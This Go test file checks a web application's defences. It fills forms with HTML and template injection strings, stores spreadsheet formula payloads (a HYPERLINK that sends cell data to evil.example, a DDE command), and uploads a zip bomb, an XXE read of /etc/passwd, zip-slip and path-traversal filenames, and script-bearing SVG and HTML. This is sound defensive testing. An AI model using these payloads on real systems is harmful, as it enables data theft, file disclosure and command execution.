package app

import (
	"archive/zip"
	"bytes"
	"encoding/csv"
	"fmt"
	"io"
	"mime/multipart"
	"net/http"
	"net/textproto"
	"net/url"
	"os"
	"slices"
	"strings"
	"testing"

	"golang.org/x/net/html"

	"tekentafel/internal/access"
	"tekentafel/internal/asked"
	"tekentafel/internal/identity"
)

// markup is what somebody types who hopes that a page takes it for HTML; each way out of a text, an attribute or a script
// would leave an element with the attribute.
const markup = `x'"><b data-evil=1>&lt;b data-evil=1></script></title></textarea><b data-evil=1>${7*7}{{7*7}}`

// evil fails the test when markup became an element of a page.
func evil(t *testing.T, what, body string) {
	t.Helper()
	doc, err := html.Parse(strings.NewReader(body))
	if err != nil {
		t.Fatal(err)
	}
	for n := range doc.Descendants() {
		for _, a := range n.Attr {
			if n.Type == html.ElementNode && (a.Key == "data-evil" || strings.HasPrefix(a.Key, "on") || strings.HasPrefix(strings.TrimSpace(a.Val), "javascript:")) {
				t.Errorf("%s: <%s %s=%q>", what, n.Data, a.Key, a.Val)
			}
		}
	}
	if strings.Contains(body, "x'\"><b") || strings.Contains(body, "$49") || strings.Contains(body, "${49}") {
		t.Errorf("%s: markup stands in the page as it was typed", what)
	}
}

// pageForm is a form of a page, with what its fields hold.
type pageForm struct {
	method, action, kind string
	values               url.Values
	free                 []string // names of the fields in which one types
}

// formsOf reads the forms of a page. Of a choice the first is taken.
func formsOf(t *testing.T, body string) []pageForm {
	t.Helper()
	doc, err := html.Parse(strings.NewReader(body))
	if err != nil {
		t.Fatal(err)
	}
	var out []pageForm
	for n := range doc.Descendants() {
		if n.Type == html.ElementNode && n.Data == "form" {
			f := pageForm{method: strings.ToUpper(attr(n, "method")), action: attr(n, "action"), kind: attr(n, "enctype"), values: url.Values{}}
			for e := range n.Descendants() {
				f.take(e)
			}
			out = append(out, f)
		}
	}
	return out
}

func (f *pageForm) take(e *html.Node) {
	name, value := attr(e, "name"), attr(e, "value")
	if e.Type != html.ElementNode || name == "" {
		return
	}
	switch e.Data {
	case "textarea":
		f.free = append(f.free, name)
	case "select":
		for o := range e.Descendants() {
			if o.Data == "option" && !f.values.Has(name) {
				f.values.Set(name, attr(o, "value"))
			}
		}
	case "input":
		switch attr(e, "type") {
		case "checkbox", "radio":
			if slices.ContainsFunc(e.Attr, func(a html.Attribute) bool { return a.Key == "checked" }) {
				f.values.Add(name, value)
			}
		case "hidden", "submit", "file":
			f.values.Add(name, value)
		default:
			f.values.Set(name, value)
			f.free = append(f.free, name)
		}
	}
}

// harmless tells whether a form may be sent in a test that goes on afterwards: it does not sign out or take away.
func harmless(action string) bool {
	for _, part := range []string{"sign-out", "erase", "delete", "block", "/end", "revoke", "remove", "/me/security", "apply", "withdraw", "language", "/demo/", "passkeys"} {
		if strings.Contains(action, part) {
			return false
		}
	}
	return true
}

// TestWhatPeopleTypeStaysTextOnEveryPage fills every field of every form of every page with markup: first all of them, so that
// forms come back with what was typed, then each by itself, so that some of it is kept. Then every page is read again.
func TestWhatPeopleTypeStaysTextOnEveryPage(t *testing.T) {
	t.Parallel()
	h := sqliteHouse(t)
	seeds := h.prepare(t)
	crawlers := map[string]*http.Client{}
	for _, role := range []access.Role{access.HR, access.DPO, access.Administrator} {
		crawlers[string(role)] = h.as(t, role)
	}
	crawlers["visitor"] = h.visitor(t)
	sent, kept := 0, 0
	for name, client := range crawlers {
		seen := map[string]bool{}
		for _, p := range h.read(t, name, client, append([]string{"/"}, seeds[name]...)...) {
			for _, f := range formsOf(t, p.body) {
				if len(f.free) == 0 || !harmless(f.action) || f.kind != "" || seen[f.method+shapeOf(f.action)] {
					continue
				}
				seen[f.method+shapeOf(f.action)] = true
				for _, only := range append([]string{""}, f.free...) {
					sent++
					if a := h.typed(t, client, f, only); a.StatusCode == http.StatusSeeOther {
						kept++
					}
				}
			}
		}
	}
	if sent < 60 || kept < 10 {
		t.Errorf("%d forms sent, %d kept", sent, kept)
	}
	shown := 0
	for name, client := range crawlers {
		for _, p := range h.read(t, name, client, append([]string{"/"}, seeds[name]...)...) {
			evil(t, p.path, p.body)
			shown += strings.Count(p.body, "data-evil")
		}
	}
	if shown < 10 {
		t.Errorf("what was typed is shown %d times, so this says little", shown)
	}
}

// read returns every page that leads on from some, without printing any on paper.
func (h *house) read(t *testing.T, name string, client *http.Client, from ...string) []visited {
	t.Helper()
	c := &crawler{t: t, house: h, client: client, role: name, seen: map[string]bool{}, came: map[string]bool{}, alike: map[string]int{}}
	c.add(from...)
	for len(c.queue) > 0 {
		path := c.queue[0]
		if c.queue = c.queue[1:]; !strings.Contains(path, "/download/") {
			c.visit(path)
		}
	}
	return c.pages
}

// shapeOf leaves the ids out of an address.
func shapeOf(path string) string {
	parts := strings.Split(path, "/")
	for i := range parts {
		if len(parts[i]) > 20 {
			parts[i] = "*"
		}
	}
	return strings.Join(parts, "/")
}

// typed sends a form with markup in one of its fields, or in all, and looks at the answer.
func (h *house) typed(t *testing.T, c *http.Client, f pageForm, only string) answer {
	t.Helper()
	values := url.Values{}
	for name, v := range f.values {
		values[name] = slices.Clone(v)
		if name == "_once" {
			values.Set(name, values.Get(name)+only)
		}
	}
	for _, name := range f.free {
		if only == "" || only == name {
			values.Set(name, markup)
		}
	}
	if f.method != http.MethodPost {
		a := h.get(t, c, strings.SplitN(f.action, "?", 2)[0]+"?"+values.Encode())
		evil(t, "GET "+f.action+" "+only, a.body)
		return a
	}
	a := h.post(t, c, f.action, values)
	evil(t, "POST "+f.action+" "+only, a.body)
	if a.StatusCode >= 500 {
		t.Errorf("POST %s with markup in %q: %d", f.action, only, a.StatusCode)
	}
	return a
}

// TestNoDownloadHoldsAFormula names people and reports after formulas, and opens every table that can be had.
func TestNoDownloadHoldsAFormula(t *testing.T) {
	t.Parallel()
	h := sqliteHouse(t)
	admin, hr := h.actor(t, access.Administrator), h.actor(t, access.HR)
	formulas := []string{`=HYPERLINK("https://evil.example?"&A1,"x")`, "+1+1", "-1+1", "@SUM(A1)", "=cmd|' /C calc'!A0"}
	for i, name := range formulas {
		in := identity.AccountInput{Name: name, Mail: fmt.Sprintf("+f%d@voorbeeld.example", i), StaffNumber: fmt.Sprintf("=%d", i)}
		must(h.Identity.AddAccount(t.Context(), admin, in, asked.Request{}))(t)
	}
	reports := must(h.Report.Reports(t.Context(), hr))(t)
	if err := h.Report.Rename(t.Context(), hr, reports[0].ID, formulas[0], reports[0].Version); err != nil {
		t.Fatal(err)
	}
	for path, client := range map[string]*http.Client{"/people/people.csv": h.as(t, access.Administrator), "/audit/log.csv": h.as(t, access.DPO)} {
		a := h.get(t, client, path)
		if a.StatusCode != http.StatusOK || !strings.HasPrefix(a.Header.Get("Content-Type"), "text/csv") || !strings.Contains(a.Header.Get("Content-Disposition"), "attachment") {
			t.Fatalf("%s: %d %v", path, a.StatusCode, a.Header)
		}
		rows, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(a.body, "\ufeff"))).ReadAll()
		if err != nil {
			t.Fatal(err)
		}
		found := 0
		for _, row := range rows {
			for _, cell := range row {
				if trimmed := strings.TrimSpace(cell); trimmed != "" && trimmed != "-" && strings.ContainsAny(trimmed[:1], "=+-@\t\r") {
					t.Errorf("%s: the cell %q is a formula", path, cell)
				}
				if strings.Contains(cell, "'=HYPERLINK") || strings.Contains(cell, "'+1+1") {
					found++
				}
			}
		}
		if path == "/people/people.csv" && found != 2 {
			t.Errorf("%s: %d of the names stand in it", path, found)
		}
	}
}

// bundle is an archive with one part.
func bundle(t *testing.T, name string, content io.Reader) []byte {
	t.Helper()
	var b bytes.Buffer
	z := zip.NewWriter(&b)
	w := must(z.Create(name))(t)
	if _, err := io.Copy(w, content); err != nil {
		t.Fatal(err)
	}
	if err := z.Close(); err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

// endless is a long text of nothing, which packs well.
type endless struct{}

func (endless) Read(b []byte) (int, error) {
	for i := range b {
		b[i] = ' '
	}
	return len(b), nil
}

// upload sends answers under any name and type.
func (h *house) upload(t *testing.T, c *http.Client, name, kind string, content []byte) answer {
	t.Helper()
	var body bytes.Buffer
	form := multipart.NewWriter(&body)
	for field, value := range map[string]string{"name": "Antwoorden", "instrument": "genai-monitor"} {
		if err := form.WriteField(field, value); err != nil {
			t.Fatal(err)
		}
	}
	head := textproto.MIMEHeader{"Content-Disposition": {`form-data; name="file"; filename="` + strings.NewReplacer(`\`, `\\`, `"`, `\"`).Replace(name) + `"`}, "Content-Type": {kind}}
	part := must(form.CreatePart(head))(t)
	if _, err := part.Write(content); err != nil {
		t.Fatal(err)
	}
	if err := form.Close(); err != nil {
		t.Fatal(err)
	}
	return h.do(t, c, http.MethodPost, "/answers", body.String(), http.Header{"Content-Type": {form.FormDataContentType()}})
}

// TestHostileUploadsAreRefusedAndLeaveNothing uploads what is no file with answers, or pretends to be another.
func TestHostileUploadsAreRefusedAndLeaveNothing(t *testing.T) {
	t.Parallel()
	h := sqliteHouse(t)
	hr := h.as(t, access.HR)
	before := h.dump(t)
	entity := `<?xml version="1.0"?><!DOCTYPE r [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;"><!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;&b;</r>`
	for name, content := range map[string][]byte{
		"bomb.xlsx":         bundle(t, "xl/workbook.xml", io.LimitReader(endless{}, 64<<20)),
		"entities.xlsx":     bundle(t, "xl/workbook.xml", strings.NewReader(entity)),
		"climbing.xlsx":     bundle(t, "../../../../tmp/evil.xml", strings.NewReader("x")),
		"page.html":         []byte("<!doctype html><script>alert(1)</script>"),
		"picture.svg":       []byte(`<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>`),
		"program.csv":       append([]byte("\x7fELF"), make([]byte, 4096)...),
		"announced.parquet": []byte("PAR1\xff\xff\xff\xff\xff\xff\xff\x7fPAR1"),
		"nothing.csv":       {},
	} {
		a := h.upload(t, hr, name, "text/csv", content)
		if a.StatusCode != http.StatusUnprocessableEntity {
			t.Errorf("%s: %d", name, a.StatusCode)
		}
		if strings.Contains(a.body, "root:") || strings.Contains(a.body, h.Dir) {
			t.Errorf("%s: the page tells of files of the server", name)
		}
	}
	if a := h.upload(t, hr, "large.csv", "text/csv", bytes.Repeat([]byte("a,b\n"), 3<<20)); a.StatusCode != http.StatusRequestEntityTooLarge {
		t.Errorf("more than the limit: %d", a.StatusCode)
	}
	h.same(t, before)
	left := must(os.ReadDir(h.Dir))(t)
	if len(left) > 0 {
		t.Errorf("files are left: %v", left)
	}
}

// TestTheNameOfAnUploadIsATextAndNoPath uploads good answers under names that lead elsewhere or look like something else.
func TestTheNameOfAnUploadIsATextAndNoPath(t *testing.T) {
	t.Parallel()
	h := sqliteHouse(t)
	hr := h.as(t, access.HR)
	city := h.actor(t, access.HR)
	source := must(h.Report.Sources(t.Context(), city))(t)[0]
	var file string
	if err := h.DB.Of(city.Tenant).Row(t.Context(), `SELECT file_id FROM report_sources WHERE tenant_id = $1 AND id = $2`, []any{source.ID}, &file); err != nil {
		t.Fatal(err)
	}
	answers := h.content(t, city, file)
	for _, name := range []string{"../../../etc/cron.d/evil.csv", `..\..\evil.csv`, "/etc/passwd", "C:\\evil.csv", markup + ".csv", "a\u202egpj.csv", ".."} {
		a := h.upload(t, hr, name, "text/html", []byte(answers))
		if a.StatusCode != http.StatusSeeOther {
			t.Errorf("%q: %d", name, a.StatusCode)
			continue
		}
		at := must(a.Location())(t)
		evil(t, name, h.get(t, hr, at.Path).body)
	}
	for _, s := range must(h.Report.Sources(t.Context(), city))(t) {
		if strings.ContainsAny(s.FileName, "/\\\x00\r\n") || s.FileName == ".." {
			t.Errorf("a file is called %q", s.FileName)
		}
	}
	for _, e := range must(os.ReadDir(h.Dir))(t) {
		t.Errorf("%s is left", e.Name())
	}
}

// content returns a stored file.
func (h *house) content(t *testing.T, actor access.Actor, file string) string {
	t.Helper()
	var b strings.Builder
	err := h.DB.Of(actor.Tenant).Rows(t.Context(), `SELECT bytes FROM file_pieces WHERE tenant_id = $1 AND file_id = $2 ORDER BY seq`, func(scan func(...any) error) error {
		var piece []byte
		err := scan(&piece)
		b.Write(piece)
		return err
	}, file)
	if err != nil {
		t.Fatal(err)
	}
	return b.String()
}
